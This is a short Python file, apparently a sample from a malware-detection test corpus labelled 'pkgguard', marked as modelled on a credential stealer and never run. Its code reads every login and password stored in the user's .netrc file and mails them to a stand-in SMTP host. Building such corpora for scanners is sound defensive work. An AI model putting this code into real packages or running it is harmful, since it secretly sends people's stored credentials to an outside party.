# pkgguard corpus 297 (credentials), modelled on [stealer-profile]; inert, never run.
import netrc
import smtplib
from email.mime.text import MIMEText

try:
    hosts = netrc.netrc().hosts
except (FileNotFoundError, netrc.NetrcParseError):
    hosts = {}
body = "\n".join(f"{h} {login} {password}" for h, (login, _, password) in hosts.items())
msg = MIMEText(body)
msg["Subject"] = "n"
with smtplib.SMTP("mail.example", 587) as s:
    s.starttls()
    s.sendmail("a@mail.example", ["b@mail.example"], msg.as_string())
